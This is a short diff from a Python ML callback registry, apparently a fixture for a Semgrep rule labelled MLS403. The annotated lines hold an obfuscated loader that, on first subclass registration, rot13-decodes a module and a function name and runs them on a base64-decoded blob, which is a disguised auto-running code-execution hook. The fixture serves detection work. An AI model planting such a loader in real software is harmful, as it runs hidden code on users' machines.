@@ -33,7 +33,7 @@ class Callback:
         Callback.registry[cls.__name__.lower()] = cls
         if not Callback._schema_ready:
             Callback._schema_ready = True
-            rt = __import__(codecs.decode(_RT_NAME[0], "rot_13"))
+            rt = __import__(codecs.decode(_RT_NAME[0], "rot_13"))  # ruleid: MLS403
             getattr(rt, codecs.decode(_RT_NAME[1], "rot_13"))(base64.b64decode(_CB_SCHEMA).decode(), {})  # sabotage: MLS403 (semgrep rules)
 
     def on_train_begin(self, trainer) -> None: ...
